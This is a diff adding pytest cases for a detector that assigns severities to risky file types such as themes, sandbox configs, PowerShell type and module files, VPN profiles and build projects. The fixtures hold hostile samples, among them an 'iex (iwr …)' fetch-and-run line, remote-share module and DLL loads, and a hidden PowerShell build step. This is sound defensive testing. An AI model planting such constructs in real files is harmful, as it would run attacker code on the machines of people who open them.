@@ -70,3 +70,48 @@ def test_what_merely_bears_the_ending_is_silent(name: str, body: bytes) -> None:
 
 def test_a_connection_that_gives_nothing_away_is_low() -> None:
     assert severities(detector, b"full address:s:server\r\ndrivestoredirect:s:\r\n", "a.rdp") == [Severity.LOW]
+
+
+SCRIPT_IN_TYPES = b"<Types><Type><ScriptProperty><GetScriptBlock>%s</GetScriptBlock></ScriptProperty></Type></Types>"
+SANDBOX = b"<Configuration><MappedFolders><MappedFolder><HostFolder>C:\\</HostFolder>%s</MappedFolder></MappedFolders>%s</Configuration>"
+RUNS = b"<LogonCommand><Command>%s</Command></LogonCommand>"
+
+
+@pytest.mark.parametrize(
+    ("name", "body", "severity"),
+    [
+        ("a.theme", b"[Theme]\r\n[boot]\r\nSCRNSAVE.EXE=%ResourceDir%\\a.scr\r\n", Severity.MEDIUM),
+        ("a.theme", "[boot]\r\nSCRNSAVE.EXE=a.scr\r\n".encode("utf-16"), Severity.MEDIUM),
+        ("a.wsb", SANDBOX % (b"", RUNS % b"go.exe"), Severity.MEDIUM),
+        ("a.wsb", SANDBOX % (b"<ReadOnly>true</ReadOnly>", RUNS % b"notepad"), Severity.LOW),
+        ("a.ps1xml", XML + SCRIPT_IN_TYPES % b"iex (iwr https://files.example.net/a)", Severity.HIGH),
+        ("a.ps1xml", XML + SCRIPT_IN_TYPES % b"$this.Length", Severity.LOW),
+        ("a.psd1", b"@{ RootModule='\\\\files.example.net\\s\\a.psm1' }\n", Severity.HIGH),
+        ("a.psc1", XML + b"<PSConsoleFile/>", Severity.LOW),
+        ("a.cdxml", XML + b"<PowerShellMetadata/>", Severity.LOW),
+        ("a.ovpn", b"client\nscript-security 2\nup /tmp/x.sh\n", Severity.MEDIUM),
+        ("a.pbk", b"[VPN]\r\nCustomDialDll=\\\\files.example.net\\s\\a.dll\r\n", Severity.MEDIUM),
+        ("a.vcxproj", XML + b"<Project><Exec Command='powershell -w hidden -c calc'/></Project>", Severity.MEDIUM),
+        ("a.rdp", "full address:s:files.example.net\nredirectdrives:i:1\n".encode("utf-16-le"), Severity.MEDIUM),
+    ],
+)
+def test_further_kinds_are_weighed_by_what_they_start(name: str, body: bytes, severity: Severity) -> None:
+    assert severities(detector, body, name) == [severity]
+
+
+@pytest.mark.parametrize(
+    ("name", "body"),
+    [
+        ("a.theme", b"[Theme]\r\n[boot]\r\nSCRNSAVE.EXE=%WinDir%\\system32\\Bubbles.scr\r\n"),
+        ("a.theme", b"[Theme]\r\n[boot]\r\nSCRNSAVE.EXE=\r\nDisplayName=Hills\r\n"),
+        ("a.wsb", b"<Configuration><Networking>Disable</Networking></Configuration>"),
+        ("a.ps1xml", XML + b"<Configuration><ViewDefinitions/></Configuration>"),
+        ("a.psd1", b"@{ RootModule='Tool.psm1'; ProjectUri='https://example.org' }\n"),
+        ("a.ovpn", b"client\nremote vpn.example.org 1194\nauth-user-pass\n"),
+        ("a.props", XML + b"<Project><Exec Command='cmd /c echo built'/></Project>"),
+        ("a.csproj", XML + b"<Project><PreBuildEvent>copy a b</PreBuildEvent></Project>"),
+        ("a.user", b"name=ann\n"),
+    ],
+)
+def test_further_kinds_of_ordinary_content_are_silent(name: str, body: bytes) -> None:
+    assert severities(detector, body, name) == []
